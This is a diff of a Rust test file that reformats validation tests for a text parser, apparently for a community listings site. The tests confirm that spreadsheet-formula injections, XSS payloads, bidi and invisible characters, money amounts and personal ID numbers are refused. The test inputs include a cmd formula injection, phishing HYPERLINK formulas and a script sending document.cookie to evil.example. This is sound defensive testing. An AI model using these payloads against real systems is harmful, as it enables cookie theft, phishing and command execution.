@@ -8,22 +8,15 @@ const TITLE: Bounds = Bounds::up_to(120);
 const TEXT: Bounds = Bounds::optional(2_000);
 
 fn broken<T>(parsed: Result<T, Faults>) -> Vec<Rule> {
-    parsed
-        .err()
-        .into_iter()
-        .flatten()
-        .map(|fault| fault.rule)
-        .collect()
+    parsed.err().into_iter().flatten().map(|fault| fault.rule).collect()
 }
 
 fn check_line(cases: &[(&str, Result<&str, Vec<Rule>>)]) {
     for (input, expected) in cases {
         match expected {
-            Ok(text) => assert_eq!(
-                Line::parse(input, TITLE).as_ref().map(Line::as_str),
-                Ok(*text),
-                "{input:?}"
-            ),
+            Ok(text) => {
+                assert_eq!(Line::parse(input, TITLE).as_ref().map(Line::as_str), Ok(*text), "{input:?}")
+            }
             Err(rules) => assert_eq!(broken(Line::parse(input, TITLE)), *rules, "{input:?}"),
         }
     }
@@ -32,11 +25,9 @@ fn check_line(cases: &[(&str, Result<&str, Vec<Rule>>)]) {
 fn check_prose(cases: &[(&str, Result<&str, Vec<Rule>>)]) {
     for (input, expected) in cases {
         match expected {
-            Ok(text) => assert_eq!(
-                Prose::parse(input, TEXT).as_ref().map(Prose::as_str),
-                Ok(*text),
-                "{input:?}"
-            ),
+            Ok(text) => {
+                assert_eq!(Prose::parse(input, TEXT).as_ref().map(Prose::as_str), Ok(*text), "{input:?}")
+            }
             Err(rules) => assert_eq!(broken(Prose::parse(input, TEXT)), *rules, "{input:?}"),
         }
     }
@@ -51,65 +42,21 @@ fn faulty_lines_are_refused_with_every_rule() {
             "=HYPERLINK(\"https://phish.example/?c=\"&O2;\"Loupiote Games\")",
             Err(vec![Rule::SpreadsheetFormula]),
         ),
-        (
-            "=HYPERLINK(\"https://phish.example/?r=\"&A2;\"Deux tables\")",
-            Err(vec![Rule::SpreadsheetFormula]),
-        ),
-        (
-            "+2+5+cmd|' /C calc'!A0",
-            Err(vec![Rule::SpreadsheetFormula]),
-        ),
+        ("=HYPERLINK(\"https://phish.example/?r=\"&A2;\"Deux tables\")", Err(vec![Rule::SpreadsheetFormula])),
+        ("+2+5+cmd|' /C calc'!A0", Err(vec![Rule::SpreadsheetFormula])),
         ("#REF!", Err(vec![Rule::SpreadsheetError])),
-        (
-            "Ludothèque <img src=x onerror=\"alert(1)\"> asbl",
-            Err(vec![Rule::Markup]),
-        ),
-        (
-            "Match amical <script>alert(document.domain)</script>",
-            Err(vec![Rule::Markup]),
-        ),
-        (
-            "Traiteur \u{202E}lEuoneF\u{202C} SARL",
-            Err(vec![Rule::BidiCharacter { code_point: 0x202E }]),
-        ),
-        (
-            "Transport d'un piano \u{202E}tiord\u{202C}",
-            Err(vec![Rule::BidiCharacter { code_point: 0x202E }]),
-        ),
-        (
-            "Ciné-Club Bobine\0Folle asbl",
-            Err(vec![Rule::NulCharacter]),
-        ),
-        (
-            "Home\u{200B}work Har\u{200D}bour asbl",
-            Err(vec![Rule::InvisibleCharacter { code_point: 0x200B }]),
-        ),
-        (
-            "World\u{200B} break\u{200B}fast",
-            Err(vec![Rule::InvisibleCharacter { code_point: 0x200B }]),
-        ),
-        (
-            "\u{FEFF}Kaleido",
-            Err(vec![Rule::InvisibleCharacter { code_point: 0xFEFF }]),
-        ),
-        (
-            "Ka\u{E0041}leido",
-            Err(vec![Rule::InvisibleCharacter {
-                code_point: 0xE0041,
-            }]),
-        ),
-        (
-            "a\u{FE0F}b",
-            Err(vec![Rule::InvisibleCharacter { code_point: 0xFE0F }]),
-        ),
-        (
-            "a\u{85}b",
-            Err(vec![Rule::ControlCharacter { code_point: 0x85 }]),
-        ),
-        (
-            "a\u{FFFF}b",
-            Err(vec![Rule::ControlCharacter { code_point: 0xFFFF }]),
-        ),
+        ("Ludothèque <img src=x onerror=\"alert(1)\"> asbl", Err(vec![Rule::Markup])),
+        ("Match amical <script>alert(document.domain)</script>", Err(vec![Rule::Markup])),
+        ("Traiteur \u{202E}lEuoneF\u{202C} SARL", Err(vec![Rule::BidiCharacter { code_point: 0x202E }])),
+        ("Transport d'un piano \u{202E}tiord\u{202C}", Err(vec![Rule::BidiCharacter { code_point: 0x202E }])),
+        ("Ciné-Club Bobine\0Folle asbl", Err(vec![Rule::NulCharacter])),
+        ("Home\u{200B}work Har\u{200D}bour asbl", Err(vec![Rule::InvisibleCharacter { code_point: 0x200B }])),
+        ("World\u{200B} break\u{200B}fast", Err(vec![Rule::InvisibleCharacter { code_point: 0x200B }])),
+        ("\u{FEFF}Kaleido", Err(vec![Rule::InvisibleCharacter { code_point: 0xFEFF }])),
+        ("Ka\u{E0041}leido", Err(vec![Rule::InvisibleCharacter { code_point: 0xE0041 }])),
+        ("a\u{FE0F}b", Err(vec![Rule::InvisibleCharacter { code_point: 0xFE0F }])),
+        ("a\u{85}b", Err(vec![Rule::ControlCharacter { code_point: 0x85 }])),
+        ("a\u{FFFF}b", Err(vec![Rule::ControlCharacter { code_point: 0xFFFF }])),
         (
             "=1\0\u{7}\u{202E}\u{200B}<script> 5 € 1900023099999",
             Err(vec![
@@ -119,9 +66,7 @@ fn faulty_lines_are_refused_with_every_rule() {
                 Rule::InvisibleCharacter { code_point: 0x200B },
                 Rule::Markup,
                 Rule::SpreadsheetFormula,
-                Rule::Money {
-                    found: "5 €".to_owned(),
-                },
+                Rule::Money { found: "5 €".to_owned() },
                 Rule::PersonalMatricule,
             ]),
         ),
@@ -130,41 +75,19 @@ fn faulty_lines_are_refused_with_every_rule() {
 
 #[test]
 fn faulty_prose_is_refused() {
-    let money = |found: &str| {
-        Err(vec![Rule::Money {
-            found: found.to_owned(),
-        }])
-    };
+    let money = |found: &str| Err(vec![Rule::Money { found: found.to_owned() }]);
     check_prose(&[
         ("@SUM(1+1)*cells(2,15)", Err(vec![Rule::SpreadsheetFormula])),
         (
             "Mir röschten all Mëttwoch.<script>fetch('https://evil.example/?c='+document.cookie)</script>",
             Err(vec![Rule::Markup]),
         ),
-        (
-            "<img src=x onerror=alert(1)> Zwei Personen für einen Vormittag.",
-            Err(vec![Rule::Markup]),
-        ),
-        (
-            "Escaliers et\u{7} meubles\u{B} sur mesure.",
-            Err(vec![Rule::ControlCharacter { code_point: 7 }]),
-        ),
-        (
-            "Par lots\0 de dix, nettoyés.",
-            Err(vec![Rule::NulCharacter]),
-        ),
-        (
-            "Holzspillsaachen no Mooss, 50 EUR/h plus Material.",
-            money("50 EUR/h"),
-        ),
-        (
-            "Trois personnes habituées, 50 EUR/h par déménageur.",
-            money("50 EUR/h"),
-        ),
-        (
-            "Anything that does not leak, we pay up to €15 each.",
-            money("€15"),
-        ),
+        ("<img src=x onerror=alert(1)> Zwei Personen für einen Vormittag.", Err(vec![Rule::Markup])),
+        ("Escaliers et\u{7} meubles\u{B} sur mesure.", Err(vec![Rule::ControlCharacter { code_point: 7 }])),
+        ("Par lots\0 de dix, nettoyés.", Err(vec![Rule::NulCharacter])),
+        ("Holzspillsaachen no Mooss, 50 EUR/h plus Material.", money("50 EUR/h")),
+        ("Trois personnes habituées, 50 EUR/h par déménageur.", money("50 EUR/h")),
+        ("Anything that does not leak, we pay up to €15 each.", money("€15")),
         ("Un virement de 120,- sur notre compte", money("120,-")),
         (
             "Conversations for people in mourning. Contact person's number: 1900023099999.",
@@ -177,14 +100,8 @@ fn faulty_prose_is_refused() {
 fn honest_lines_are_kept() {
     check_line(&[
         ("Serrurerie du Pêne SARL   ", Ok("Serrurerie du Pêne SARL")),
-        (
-            "  E Beamer fir de Kinosowend \t ",
-            Ok("E Beamer fir de Kinosowend"),
-        ),
-        (
-            "Second Breakfast\r\nClub asbl",
-            Ok("Second Breakfast Club asbl"),
-        ),
+        ("  E Beamer fir de Kinosowend \t ", Ok("E Beamer fir de Kinosowend")),
+        ("Second Breakfast\r\nClub asbl", Ok("Second Breakfast Club asbl")),
         ("Liesha\u{308}ischen asbl", Ok("Lieshäischen asbl")),
         (
             "Velo Kurier Pedalritter 🚴\u{200D}♀\u{FE0F} SARL",
@@ -199,38 +116,17 @@ fn honest_lines_are_kept() {
             Ok("🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}"),
         ),
         ("CafÃ© CrÃ¨me", Ok("CafÃ© CrÃ¨me")),
-        (
-            "Jugendh\u{430}us K\u{430}leid\u{43E} asbl",
-            Ok("Jugendh\u{430}us K\u{430}leid\u{43E} asbl"),
-        ),
-        (
-            "Pli & Pente Architectes, société civile",
-            Ok("Pli & Pente Architectes, société civile"),
-        ),
-        (
-            "Ist unser Saal barrierefrei?",
-            Ok("Ist unser Saal barrierefrei?"),
-        ),
-        (
-            "Transport d'un piano droit (2)",
-            Ok("Transport d'un piano droit (2)"),
-        ),
+        ("Jugendh\u{430}us K\u{430}leid\u{43E} asbl", Ok("Jugendh\u{430}us K\u{430}leid\u{43E} asbl")),
+        ("Pli & Pente Architectes, société civile", Ok("Pli & Pente Architectes, société civile")),
+        ("Ist unser Saal barrierefrei?", Ok("Ist unser Saal barrierefrei?")),
+        ("Transport d'un piano droit (2)", Ok("Transport d'un piano droit (2)")),
         (
             "Atelier : repérer les violences, réagir au travail",
             Ok("Atelier : repérer les violences, réagir au travail"),
         ),
-        (
-            "Conseils pour tenir un budget familial",
-            Ok("Conseils pour tenir un budget familial"),
-        ),
-        (
-            "Refurbished 14-inch laptops",
-            Ok("Refurbished 14-inch laptops"),
-        ),
-        (
-            "Prêt pour familles < 18 ans <3",
-            Ok("Prêt pour familles < 18 ans <3"),
-        ),
+        ("Conseils pour tenir un budget familial", Ok("Conseils pour tenir un budget familial")),
+        ("Refurbished 14-inch laptops", Ok("Refurbished 14-inch laptops")),
+        ("Prêt pour familles < 18 ans <3", Ok("Prêt pour familles < 18 ans <3")),
         ("- noon: we explain", Ok("- noon: we explain")),
     ]);
 }
@@ -274,30 +170,15 @@ fn bounds_count_characters() {
 fn optional_texts_are_none_when_blank() {
     assert_eq!(Line::parse_optional(" \t", TITLE), Ok(None));
     assert_eq!(Prose::parse_optional("\n\n", TEXT), Ok(None));
-    assert_eq!(
-        Line::parse_optional(" a ", TITLE),
-        Ok(Some(Line("a".to_owned())))
-    );
-    assert_eq!(
-        broken(Line::parse_optional("ab", Bounds::new(3, 9))),
-        [Rule::TooShort { min: 3 }]
-    );
-    assert_eq!(
-        broken(Prose::parse_optional("abc", Bounds::up_to(2))),
-        [Rule::TooLong { max: 2 }]
-    );
+    assert_eq!(Line::parse_optional(" a ", TITLE), Ok(Some(Line("a".to_owned()))));
+    assert_eq!(broken(Line::parse_optional("ab", Bounds::new(3, 9))), [Rule::TooShort { min: 3 }]);
+    assert_eq!(broken(Prose::parse_optional("abc", Bounds::up_to(2))), [Rule::TooLong { max: 2 }]);
 }
 
 #[test]
 fn notes_may_speak_of_money_and_nothing_else() {
-    assert_eq!(
-        broken(Prose::parse_note("Please take out “50 EUR/h”.", TEXT)),
-        []
-    );
-    assert_eq!(
-        broken(Prose::parse_note("<b>50 €</b>", TEXT)),
-        [Rule::Markup]
-    );
+    assert_eq!(broken(Prose::parse_note("Please take out “50 EUR/h”.", TEXT)), []);
+    assert_eq!(broken(Prose::parse_note("<b>50 €</b>", TEXT)), [Rule::Markup]);
 }
 
 #[test]
